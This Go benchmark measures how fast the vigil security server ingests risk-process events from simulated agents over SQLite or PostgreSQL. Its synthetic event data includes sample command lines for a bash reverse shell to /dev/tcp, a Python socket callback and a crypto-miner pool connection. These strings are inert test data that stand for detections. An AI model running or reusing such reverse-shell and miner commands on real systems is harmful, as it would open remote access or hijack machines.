// Command ingest benchmarks vigil's server ingestion of risk-process events
// through the real agent protocol (issue 6: "server ingestion ≥ 20,000
// events/s on SQLite"). An in-process server (internal/app) gets -agents
// concurrent uploaders, each enrolled as its own host (distinct machine id)
// with the agent's own client (internal/agent/transport); each posts
// -batch events per upload to /agent/v1/events until -events are sent.
//
// Every upload's events are generated before the clock starts, filled as the
// agent's process monitor fills them, with ~1 % repeats of an event the same
// agent already sent (the server merges those). Detections follow a fleet
// clock (a millisecond per new event, ending now); -realtime of them (90 %)
// were judged on their exec event, so the process started within 100 ms
// before, the rest were found by a sweep and started any time in the hour
// before (-realtime 0: all of them, the worst case for the event indexes).
// Pids rise per agent, as a host hands them out. Only the uploads are timed.
// Every upload must be fully acknowledged (accepted == sent, nothing
// rejected, an id per event, a repeat gets its original's id) and at the end
// the store must hold exactly the distinct events sent: anything else is a
// fatal error. Each round runs on a fresh database; the median is printed
// after the rounds.
//
//	go run ./bench/ingest                                   # SQLite, 16 agents
//	go run ./bench/ingest -agents 1                         # one uploader
//	go run ./bench/ingest -realtime 0                       # every process started any time in the last hour
//	go run ./bench/ingest -raw                              # pre-encoded bodies (no client JSON encoding in the timed part)
//	go run ./bench/ingest -repeats 0.4 -twice               # uploads repeating one event twice
//	go run ./bench/ingest -database postgres://…/postgres   # PostgreSQL (a fresh database per round is created there and dropped)
//
// Process CPU (getrusage, user+sys) includes the uploaders: in the default
// mode the transport encodes each request's JSON during the run (its cost is
// measured beforehand and printed as "client encode"); -raw posts the
// pre-encoded bodies with the credential's Bearer header instead.
package main

import (
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"log/slog"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"runtime/pprof"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/vigil-sec/vigil/bench/internal/benchstat"
	"github.com/vigil-sec/vigil/internal/agent/transport"
	"github.com/vigil-sec/vigil/internal/agentapi/wire"
	"github.com/vigil-sec/vigil/internal/app"
	"github.com/vigil-sec/vigil/internal/config"
	"github.com/vigil-sec/vigil/internal/store"
)

const agentToken = "bench-ingest-enrollment-token-0123456789"

func main() {
	var (
		agents   = flag.Int("agents", 16, "concurrent uploaders, each enrolled as its own host")
		batch    = flag.Int("batch", 500, "events per upload")
		events   = flag.Int("events", 200_000, "events to upload in total (repeats included)")
		rounds   = flag.Int("rounds", 3, "rounds, each on a fresh database")
		dir      = flag.String("dir", "", "data directory (default: a fresh temporary directory, removed at the end); rounds use sub-directories round-N, which must not exist")
		database = flag.String("database", "", "PostgreSQL URL (default: SQLite in -dir); each round creates and drops a database of its own there")
		repeats  = flag.Float64("repeats", 0.01, "share of an upload's events that repeat an event the agent already sent")
		realtime = flag.Float64("realtime", 0.9, "share of new events judged on their exec event (process started just before detection); the rest were found by a sweep (started any time in the hour before); 0 = all spread over the hour, the worst case for the indexes")
		raw      = flag.Bool("raw", false, "post pre-encoded bodies with the credential instead of transport.Client.SendEvents")
		cpuprof  = flag.String("cpuprofile", "", "write a CPU profile of the timed uploads to this file")
		twice    = flag.Bool("twice", false, "let an upload repeat the same earlier event twice (an agent whose spool holds two detections of one process)")
	)
	flag.Parse()
	if *agents < 1 || *batch < 1 || *events < 1 || *rounds < 1 {
		log.Fatal("-agents, -batch, -events and -rounds must be positive")
	}
	ctx := context.Background()
	base := *dir
	if base == "" {
		d, err := os.MkdirTemp("", "vigil-bench-ingest-")
		if err != nil {
			log.Fatal(err)
		}
		defer os.RemoveAll(d)
		base = d
	}
	backend := "sqlite"
	if *database != "" {
		backend = "postgres"
	}
	mode := "transport.Client.SendEvents"
	if *raw {
		mode = "raw pre-encoded POST"
	}
	fmt.Printf("backend %s, %d agents, %d events/upload, %d events/round (~%.0f %% repeats, %.0f %% of new events real-time), client %s\n",
		backend, *agents, *batch, *events, *repeats*100, *realtime*100, mode)

	var results []result
	for r := 1; r <= *rounds; r++ {
		res, err := round(ctx, r, roundConfig{
			dir: filepath.Join(base, fmt.Sprintf("round-%d", r)), database: *database,
			agents: *agents, batch: *batch, events: *events, repeats: *repeats, realtime: *realtime, raw: *raw, twice: *twice,
			cpuprofile: profileName(*cpuprof, r),
		})
		if err != nil {
			log.Fatalf("FAILED: round %d: %v (data left in %s)", r, err, base)
		}
		fmt.Printf("round %d  %s\n", r, res)
		results = append(results, res)
	}
	fmt.Printf("median   %s\n", median(results))
}

// profileName is the CPU profile file of round r ("" when not profiling).
func profileName(name string, r int) string {
	if name == "" {
		return ""
	}
	return fmt.Sprintf("%s.%d", name, r)
}

type roundConfig struct {
	dir, database         string
	agents, batch, events int
	repeats, realtime     float64
	raw, twice            bool
	cpuprofile            string
}

// result is one round's figures.
type result struct {
	events, uploads, distinct int
	wall                      time.Duration
	p50, p99                  time.Duration
	cpuPer1k                  time.Duration // process CPU per 1,000 events
	encodePer1k               time.Duration // client JSON encoding per 1,000 events (measured before)
}

func (r result) String() string {
	return fmt.Sprintf("%8.0f events/s  %6.1f uploads/s  upload p50 %-9v p99 %-9v  CPU %v/1k events (client encode %v/1k)  [%d events, %d distinct, %d uploads in %v]",
		float64(r.events)/r.wall.Seconds(), float64(r.uploads)/r.wall.Seconds(), r.p50, r.p99,
		r.cpuPer1k.Round(10*time.Microsecond), r.encodePer1k.Round(10*time.Microsecond),
		r.events, r.distinct, r.uploads, r.wall.Round(time.Millisecond))
}

// median takes each figure's median over the rounds separately.
func median(rs []result) result {
	pick := func(f func(result) time.Duration) time.Duration {
		v := make([]time.Duration, len(rs))
		for i, r := range rs {
			v[i] = f(r)
		}
		return benchstat.Percentile(v, 50)
	}
	m := rs[0]
	// The wall time's median is the events/s median (same event count).
	m.wall = pick(func(r result) time.Duration { return r.wall })
	m.p50 = pick(func(r result) time.Duration { return r.p50 })
	m.p99 = pick(func(r result) time.Duration { return r.p99 })
	m.cpuPer1k = pick(func(r result) time.Duration { return r.cpuPer1k })
	m.encodePer1k = pick(func(r result) time.Duration { return r.encodePer1k })
	return m
}

// upload is one pre-generated upload of an agent.
type upload struct {
	req  wire.EventsRequest
	body []byte // req as the transport encodes it
	// origin[i] is, for a repeat, the (upload, index) of the agent's event it
	// repeats; {-1, -1} for a new event.
	origin [][2]int
}

func round(ctx context.Context, n int, rc roundConfig) (result, error) {
	if _, err := os.Stat(rc.dir); err == nil {
		return result{}, fmt.Errorf("%s exists: the round needs a fresh database", rc.dir)
	}
	database := rc.database
	if database != "" {
		u, drop, err := freshPostgres(ctx, rc.database, n)
		if err != nil {
			return result{}, err
		}
		defer drop()
		database = u
	}
	cfg := config.DefaultServer()
	cfg.Data, cfg.Database, cfg.RateLimit, cfg.Listen, cfg.TimeZone = rc.dir, database, 0, "127.0.0.1:0", "UTC"
	logger := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	a, err := app.Open(ctx, cfg, app.WithLogger(logger), app.WithEnviron([]string{app.EnvAgentToken + "=" + agentToken,
		app.EnvAdminSecretID + "=AKIDbenchingest0000000000000000000000", app.EnvAdminSecretKey + "=bench-ingest-secret-key-0000000000"}))
	if err != nil {
		return result{}, err
	}
	defer a.Close()
	ln, err := net.Listen("tcp", cfg.Listen)
	if err != nil {
		return result{}, err
	}
	sctx, stop := context.WithCancel(ctx)
	served := make(chan error, 1)
	go func() { served <- a.Serve(sctx, ln) }()
	defer func() { stop(); <-served }()
	server := "http://" + ln.Addr().String()

	// Enroll the agents (not timed), each with its own machine id.
	hc := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: rc.agents + 4}}
	topts := []transport.Option{transport.WithHTTPClient(hc), transport.WithMaxAttempts(1), transport.WithTimeout(5 * time.Minute)}
	clients := make([]*transport.Client, rc.agents)
	creds := make([]transport.Credential, rc.agents)
	for i := range clients {
		facts := wire.HostFacts{
			MachineID: machineID(n, i), HostName: fmt.Sprintf("ingest-%02d.bench", i),
			PrivateIP: fmt.Sprintf("10.66.%d.%d", i/200, i%200+10), OS: "Ubuntu 24.04 LTS", Kernel: "6.8.0-45-generic", AgentVersion: "bench",
		}
		if creds[i], err = transport.Enroll(ctx, server, agentToken, facts, topts...); err != nil {
			return result{}, fmt.Errorf("enroll agent %d: %w", i, err)
		}
		if clients[i], err = transport.New(creds[i], topts...); err != nil {
			return result{}, err
		}
	}

	// Generate every upload before the clock starts.
	plan, distinct, encode := generate(rc, n)
	total := 0
	for _, ups := range plan {
		for _, u := range ups {
			total += len(u.req.Events)
		}
	}

	type outcome struct {
		lat []time.Duration
		ids [][]int64
		err error
	}
	outs := make([]outcome, rc.agents)
	var wg sync.WaitGroup
	var ru0, ru1 syscall.Rusage
	if rc.cpuprofile != "" {
		f, err := os.Create(rc.cpuprofile)
		if err != nil {
			return result{}, err
		}
		defer f.Close()
		if err := pprof.StartCPUProfile(f); err != nil {
			return result{}, err
		}
	}
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru0)
	start := time.Now()
	for i := range plan {
		wg.Add(1)
		go func() {
			defer wg.Done()
			o := &outs[i]
			for k, u := range plan[i] {
				t := time.Now()
				var resp wire.EventsResponse
				var err error
				if rc.raw {
					resp, err = postRaw(ctx, hc, server, creds[i], u.body)
				} else {
					resp, err = clients[i].SendEvents(ctx, u.req)
				}
				o.lat = append(o.lat, time.Since(t))
				if err == nil {
					err = check(resp, u, o.ids)
				}
				if err != nil {
					o.err = fmt.Errorf("agent %d upload %d: %w", i, k, err)
					return
				}
				o.ids = append(o.ids, resp.EventIDs)
			}
		}()
	}
	wg.Wait()
	wall := time.Since(start)
	if rc.cpuprofile != "" {
		pprof.StopCPUProfile()
	}
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru1)
	cpu := time.Duration(ru1.Utime.Nano()+ru1.Stime.Nano()-ru0.Utime.Nano()-ru0.Stime.Nano()) * time.Nanosecond

	var lat []time.Duration
	var errs []error
	seen := map[int64]bool{}
	for _, o := range outs {
		lat = append(lat, o.lat...)
		errs = append(errs, o.err)
		for _, ids := range o.ids {
			for _, id := range ids {
				seen[id] = true
			}
		}
	}
	if err := errors.Join(errs...); err != nil {
		return result{}, err
	}
	if len(seen) != distinct {
		return result{}, fmt.Errorf("the server answered %d distinct event ids, %d distinct events were sent", len(seen), distinct)
	}
	// What the store holds, counted by the store.
	acct, err := a.Store.GetAccountByName(ctx, app.DefaultAccount)
	if err != nil {
		return result{}, err
	}
	page, err := a.Store.QueryRiskProcessEvents(ctx, acct.ID, store.RiskProcessEventQuery{Limit: 1})
	if err != nil {
		return result{}, err
	}
	if page.Total != int64(distinct) {
		return result{}, fmt.Errorf("the store holds %d events, %d distinct events were sent: events LOST or duplicated", page.Total, distinct)
	}
	for i, c := range creds {
		page, err := a.Store.QueryRiskProcessEvents(ctx, acct.ID, store.RiskProcessEventQuery{Limit: 1, HostIDs: store.TextFilter{Values: []string{c.HostUUID}, Exact: true}})
		if err != nil {
			return result{}, err
		}
		if want := distinctOf(plan[i]); page.Total != int64(want) {
			return result{}, fmt.Errorf("host %d (%s): the store holds %d events, %d distinct were sent", i, c.HostUUID, page.Total, want)
		}
	}
	return result{
		events: total, uploads: len(lat), distinct: distinct, wall: wall,
		p50: pct(lat, 50), p99: pct(lat, 99),
		cpuPer1k: cpu * 1000 / time.Duration(total), encodePer1k: encode * 1000 / time.Duration(total),
	}, nil
}

// check verifies that resp acknowledges every event of u, and that each
// repeat got the id of the event it repeats (ids: the agent's earlier answers).
func check(resp wire.EventsResponse, u upload, ids [][]int64) error {
	n := len(u.req.Events)
	if resp.Accepted != n || len(resp.Rejected) > 0 || len(resp.EventIDs) != n {
		return fmt.Errorf("sent %d events, accepted %d, rejected %d (first: %+v), %d ids",
			n, resp.Accepted, len(resp.Rejected), first(resp.Rejected), len(resp.EventIDs))
	}
	for j, id := range resp.EventIDs {
		if id <= 0 {
			o, same := u.origin[j], 0
			for _, p := range u.origin {
				if o[0] >= 0 && p == o {
					same++
				}
			}
			return fmt.Errorf("event %d got id %d (origin %v; %d events of this upload repeat the same event)", j, id, o, same)
		}
		if o := u.origin[j]; o[0] >= 0 && ids[o[0]][o[1]] != id {
			return fmt.Errorf("event %d repeats upload %d's event %d (id %d) but got id %d", j, o[0], o[1], ids[o[0]][o[1]], id)
		}
	}
	return nil
}

func first(r []wire.Rejected) any {
	if len(r) == 0 {
		return nil
	}
	return r[0]
}

// postRaw posts a pre-encoded upload as the transport does (same headers),
// without its encoding and retries: any non-200 is an error.
func postRaw(ctx context.Context, hc *http.Client, server string, c transport.Credential, body []byte) (wire.EventsResponse, error) {
	var resp wire.EventsResponse
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, server+wire.PathEvents, bytes.NewReader(body))
	if err != nil {
		return resp, err
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("User-Agent", "vigil-agent")
	req.Header.Set("Authorization", "Bearer "+c.CredentialID+"."+c.Secret) // the protocol's credential header (package agentapi)
	r, err := hc.Do(req)
	if err != nil {
		return resp, err
	}
	defer r.Body.Close()
	b, err := io.ReadAll(r.Body)
	if err != nil {
		return resp, err
	}
	if r.StatusCode != http.StatusOK {
		return resp, fmt.Errorf("server answered %d: %s", r.StatusCode, bytes.TrimSpace(b))
	}
	return resp, json.Unmarshal(b, &resp)
}

func distinctOf(ups []upload) int {
	n := 0
	for _, u := range ups {
		for _, o := range u.origin {
			if o[0] < 0 {
				n++
			}
		}
	}
	return n
}

func machineID(round, agent int) string {
	h := sha256.Sum256(fmt.Appendf(nil, "vigil machine id\x00bench-ingest-%d-%d", round, agent))
	return hex.EncodeToString(h[:])
}

// The detections: the agent's process heuristics (CheckPlatform "4", rule =
// virus name) and engine verdicts on the executable (YARA "1", hash list "5").
var (
	heuristics = []string{"Linux.Risk.ExecFromTmp", "Linux.Risk.DeletedExe", "Linux.Risk.KernelThreadMasquerade",
		"Linux.Miner.CmdLine", "Linux.HackTool.IntranetScanner", "Linux.Backdoor.ReverseShell"}
	families = []string{"Mirai", "Gafgyt", "Tsunami", "XorDDoS", "Kinsing", "TeamTNT", "XMRig", "Kaiji", "Dofloo", "BillGates",
		"Mozi", "Sysrv", "Skidmap", "Rocke", "WatchDog", "Lemon_Duck", "H2Miner", "Outlaw", "Ebury", "Cleanfda",
		"Pnscan", "Prometei", "Chaos", "RedXOR", "Winnti", "Sliver", "CobaltStrike", "Rekoobe"}
	kinds    = []string{"Trojan", "Backdoor", "Miner", "DDoS", "Rootkit", "HackTool"}
	dirs     = []string{"/tmp/", "/dev/shm/", "/var/tmp/.ICE-unix/", "/usr/local/bin/", "/usr/bin/", "/opt/app/bin/", "/home/deploy/.cache/", "/root/.local/"}
	names    = []string{"kworker", "kdevtmpfsi", "xmrig", "sysupdate", "networkservice", "dbused", "bash", "sh", "python3", "nc", "fscan", ".x", "httpd", "java", "node"}
	users    = []string{"root", "root", "root", "www-data", "nobody", "deploy", "mysql", "ubuntu"}
	cmdlines = []string{
		"{exe} -o stratum+tcp://pool.minexmr.com:4444 -u 49jZ5Q3bXtGnYp7kQ2aJ8mWcLd -p x --donate-level=1",
		"{exe} -h 10.0.0.0/16 -m ssh -nopoc -np",
		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
		"[kworker/0:1]",
		"{exe} --config=/tmp/.cfg/config.json --background",
		"{exe} -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.3\",9001))'",
		"{exe}",
	}
)

// exe is an executable the bench's processes run (its hashes are stable).
type exe struct {
	path, md5, sha256, virus, rule, platform string
}

// generate builds every agent's uploads for round n: uploads are dealt to the
// agents in turn, ~repeats of each upload after an agent's first repeat one
// of the agent's earlier events. It returns the plan, the number of distinct
// events and the CPU time json.Marshal takes for all the requests.
func generate(rc roundConfig, n int) ([][]upload, int, time.Duration) {
	rng := rand.New(rand.NewPCG(uint64(n), 42))
	exes := make([]exe, 3000)
	for i := range exes {
		var e exe
		e.path = dirs[rng.IntN(len(dirs))] + names[rng.IntN(len(names))]
		if rng.IntN(4) == 0 {
			e.path += fmt.Sprintf("-%d", rng.IntN(100000))
		}
		m := md5.Sum(fmt.Appendf(nil, "exe-%d", i))
		s := sha256.Sum256(fmt.Appendf(nil, "exe-%d", i))
		e.md5, e.sha256 = hex.EncodeToString(m[:]), hex.EncodeToString(s[:])
		switch rng.IntN(3) {
		case 0:
			e.virus = heuristics[rng.IntN(len(heuristics))]
			e.rule, e.platform = e.virus, "4"
		case 1:
			f := families[rng.IntN(len(families))]
			e.virus = fmt.Sprintf("Linux.%s.%s.%c", kinds[rng.IntN(len(kinds))], f, 'a'+rune(rng.IntN(3)))
			e.rule, e.platform = "yara_"+strings.ToLower(f)+"_"+fmt.Sprint(rng.IntN(40)), "1"
		default:
			f := families[rng.IntN(len(families))]
			e.virus = "Linux.Trojan." + f + ".hash"
			e.rule, e.platform = "md5:"+e.md5, "5"
		}
		exes[i] = e
	}
	containers := make([]string, 40)
	for i := range containers {
		c := sha256.Sum256(fmt.Appendf(nil, "container-%d", i))
		containers[i] = hex.EncodeToString(c[:])
	}

	now := time.Now().UTC()
	clock := now.Add(-time.Duration(rc.events) * time.Millisecond)
	plan := make([][]upload, rc.agents)
	nextPID := make([]int64, rc.agents)
	for i := range nextPID {
		nextPID[i] = 1000 + rng.Int64N(100000)
	}
	distinct := 0
	for sent, k := 0, 0; sent < rc.events; k++ {
		ag := k % rc.agents
		size := min(rc.batch, rc.events-sent)
		sent += size
		u := upload{req: wire.EventsRequest{Events: make([]wire.Event, size)}, origin: make([][2]int, size)}
		for j := 0; j < size; j++ {
			if prev := plan[ag]; len(prev) > 0 && rng.Float64() < rc.repeats {
				// A repeat: the agent saw the same process again (a later
				// sweep, or a resend); only the detect time moves on.
				pu := rng.IntN(len(prev))
				pj := rng.IntN(len(prev[pu].req.Events))
				for prev[pu].origin[pj][0] >= 0 { // repeat the original, not a repeat
					pu, pj = prev[pu].origin[pj][0], prev[pu].origin[pj][1]
				}
				if !rc.twice && slices.Contains(u.origin[:j], [2]int{pu, pj}) {
					j-- // already repeated in this upload: draw again
					continue
				}
				ev := prev[pu].req.Events[pj]
				ev.DetectTime = now.Add(time.Duration(rng.IntN(1000)) * time.Millisecond)
				u.req.Events[j], u.origin[j] = ev, [2]int{pu, pj}
				continue
			}
			e := exes[rng.IntN(len(exes))]
			pid := nextPID[ag]
			nextPID[ag] += 1 + rng.Int64N(7)
			// The fleet's clock: a millisecond per new event, ending now.
			clock = clock.Add(time.Millisecond)
			ev := wire.Event{
				PID: pid, PPID: 1 + rng.Int64N(pid-1),
				ExePath: e.path, CmdLine: strings.ReplaceAll(cmdlines[rng.IntN(len(cmdlines))], "{exe}", e.path),
				ExeMD5: e.md5, ExeSHA256: e.sha256,
				VirusName: e.virus, Rule: e.rule, CheckPlatform: []string{e.platform},
				Method: 1, DetectTime: clock,
			}
			if rng.Float64() < rc.realtime {
				// Judged on its exec event: started just before.
				ev.StartTime = clock.Add(-time.Duration(rng.Int64N(int64(100 * time.Millisecond))))
			} else {
				// Found by a sweep: started any time in the hour before.
				ev.Method = 0
				ev.StartTime = clock.Add(-time.Duration(rng.Int64N(int64(time.Hour))))
			}
			ev.StartTime = ev.StartTime.Truncate(10 * time.Millisecond) // clock ticks
			ev.User = users[rng.IntN(len(users))]
			ev.Group = ev.User
			if rng.IntN(3) == 0 {
				ev.Container = containers[rng.IntN(len(containers))]
			}
			u.req.Events[j], u.origin[j] = ev, [2]int{-1, -1}
			distinct++
		}
		plan[ag] = append(plan[ag], u)
	}

	// Encode as the transport does (json.Marshal of the request), timing it.
	var ru0, ru1 syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru0)
	for i := range plan {
		for k := range plan[i] {
			b, err := json.Marshal(plan[i][k].req)
			if err != nil {
				log.Fatal(err)
			}
			plan[i][k].body = b
		}
	}
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru1)
	encode := time.Duration(ru1.Utime.Nano() + ru1.Stime.Nano() - ru0.Utime.Nano() - ru0.Stime.Nano())
	return plan, distinct, encode
}

// freshPostgres creates database vigil_bench_ingest_<n> next to the one url
// names and returns its URL and a function dropping it.
func freshPostgres(ctx context.Context, dbURL string, n int) (string, func(), error) {
	name := fmt.Sprintf("vigil_bench_ingest_%d", n)
	conn, err := pgx.Connect(ctx, dbURL)
	if err != nil {
		return "", nil, err
	}
	drop := func() {
		_, _ = conn.Exec(context.Background(), "DROP DATABASE IF EXISTS "+name+" WITH (FORCE)")
	}
	drop()
	if _, err := conn.Exec(ctx, "CREATE DATABASE "+name); err != nil {
		conn.Close(ctx)
		return "", nil, err
	}
	u, err := url.Parse(dbURL)
	if err != nil {
		conn.Close(ctx)
		return "", nil, err
	}
	u.Path = "/" + name
	return u.String(), func() { drop(); conn.Close(context.Background()) }, nil
}

func pct(d []time.Duration, p float64) time.Duration {
	return benchstat.Percentile(d, p).Round(10 * time.Microsecond)
}
